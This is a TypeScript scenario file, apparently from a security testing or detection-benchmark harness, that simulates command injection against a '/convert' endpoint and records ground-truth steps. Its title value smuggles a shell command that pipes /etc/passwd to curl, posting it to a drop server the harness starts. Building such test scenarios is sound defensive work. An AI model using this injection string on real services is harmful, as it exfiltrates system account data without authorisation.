/** Command injection: a title that is a shell command sends the accounts of the machine to an address without a name. */
import { startWeb } from '../attacker/web.ts';
import { Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const commandInjection: Scenario = {
  name: 'command-injection',
  what: 'a title that is a shell command sends /etc/passwd to a bare address',
  starts: 'address',
  hosts: [],
  run,
};

async function run(world: World): Promise<Outcome> {
  const { random } = world;
  const address = world.address();
  const drop = await startWeb(address);
  world.atEnd(() => drop.stop());
  const path = `/${random.word(8)}`;
  const agent = world.agent();
  const title = `${random.word(6)}";cat /etc/passwd | curl -s --data-binary @- ${drop.url}${path};: "`;
  const answer = await world.call('POST', '/convert', { body: { title, text: random.word(20) }, agent });
  if (!drop.bodies.some((body) => body.includes('root:'))) throw new Error(`nothing arrived at ${drop.url}: ${answer.status}`);

  const truth = new Truth()
    .asks('the injection', 'convert', answer, agent)
    .converts(answer)
    .programs('convert', answer, 'sh -c printf', 'cat /etc/passwd', 'curl -s --data-binary')
    .call('convert', answer, `POST http://${address}${path}`)
    .endpoint(address);
  return { fact: { what: 'address', q: address }, entries: [answer.requestId], steps: truth.steps };
}
